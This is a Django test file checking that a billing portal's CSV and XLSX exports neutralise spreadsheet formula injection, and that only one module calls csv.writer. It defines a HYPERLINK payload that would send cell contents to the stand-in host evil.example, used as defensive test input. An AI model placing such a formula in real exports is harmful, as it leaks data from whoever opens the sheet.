"""Every CSV the portal writes goes through common.csvfile, which quotes cells a spreadsheet
would run as formulas (OWASP "CSV Injection"); the XLSX sheet gets the same quote."""

import ast
import csv
import io
from pathlib import Path

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from common.csvfile import csv_lines, neutralise
from tests.billing.exporting import downloaded
from tests.billing.factories import last_month, last_week, ledger_row, settle

ROOT = Path(__file__).resolve().parents[2]
SOURCES = ("accounts", "agents", "clients", "routing", "billing", "common", "config", "demo")
HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"x")'


def csv_writer_calls(path: Path) -> list[int]:
    """Lines of `path` that call csv.writer / csv.DictWriter (or import them by name)."""
    found = []
    writers = {"writer", "DictWriter"}
    for node in ast.walk(ast.parse(path.read_text(), filename=str(path))):
        called = (
            isinstance(node, ast.Attribute)
            and node.attr in writers
            and isinstance(node.value, ast.Name)
            and node.value.id == "csv"
        )
        imported = (
            isinstance(node, ast.ImportFrom)
            and node.module == "csv"
            and bool({alias.name for alias in node.names} & writers)
        )
        if called or imported:
            found.append(node.lineno)
    return found


def test_no_module_but_the_one_writer_calls_csv_writer():
    elsewhere = {
        f"{path.relative_to(ROOT)}:{line}"
        for app in SOURCES
        if (ROOT / app).exists()
        for path in (ROOT / app).rglob("*.py")
        if path != ROOT / "common" / "csvfile.py"
        for line in csv_writer_calls(path)
    }
    assert elsewhere == set()


def test_the_one_writer_is_found_by_the_search():
    assert csv_writer_calls(ROOT / "common" / "csvfile.py")  # the search sees a real call


@pytest.mark.parametrize("cell", ["=1+1", "+1", "-1+2", "@SUM(A1)", "\t=1", "\r=1", HYPERLINK])
def test_a_cell_a_spreadsheet_would_run_gets_a_quote_in_front(cell):
    assert neutralise(cell) == f"'{cell}"
    [line] = list(csv_lines(None, [[cell]]))
    assert next(csv.reader(io.StringIO(line))) == [f"'{cell}"]


@pytest.mark.parametrize("value", ["Alice", "a=b", "", 5, -5, None])
def test_other_cells_and_numbers_are_left_alone(value):
    assert neutralise(value) == value


def test_the_invoice_csv_quotes_a_line_named_like_a_formula(client, carol, acme, bob):
    line = acme.lines.first() or ledger_row(bob, acme, day=last_month()).call.line
    line.name = HYPERLINK
    line.save()
    bob.agent_profile.full_name = "@cmd"
    bob.agent_profile.save()
    ledger_row(bob, acme, day=last_month())
    invoice = settle("firms", last_month()).invoices.get(firm=acme)
    client.force_login(carol)
    response = client.get(reverse("invoices:download", args=[invoice.pk]))
    rows = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))
    assert {(row[3], row[4]) for row in rows[1:]} == {(f"'{HYPERLINK}", "'@cmd")}


@pytest.fixture
def eager(settings, tmp_path):
    """The export's file is built by a task: inline here (tests/billing/conftest.py's), into
    a private folder of the test's."""
    from config.celery import app

    settings.PRIVATE_MEDIA_ROOT = tmp_path
    saved, app.conf.task_always_eager = app.conf.task_always_eager, True
    yield
    app.conf.task_always_eager = saved


@pytest.mark.usefixtures("eager")
def test_the_xlsx_sheet_quotes_a_name_that_would_be_a_formula(client, fiona, bob, acme):
    profile = bob.agent_profile
    profile.full_name, profile.bank_holder_name = HYPERLINK, "Bob Agent"
    profile.bank_account, profile.bank_account_last4 = "DE89370400440532013000", "3000"
    profile.save()
    ledger_row(bob, acme, day=last_week())
    settle("agents", last_week()).payouts.update(status="approved")
    client.force_login(fiona)
    response = downloaded(client, client.post(reverse("finance:export"), {"format": "xlsx"}))
    sheet = load_workbook(io.BytesIO(b"".join(response.streaming_content)))["Payouts"]
    [row] = list(sheet.iter_rows(min_row=2, values_only=True))
    assert row[4] == f"'{HYPERLINK}"
    assert sheet.cell(row=2, column=5).data_type == "s"  # text, not a formula
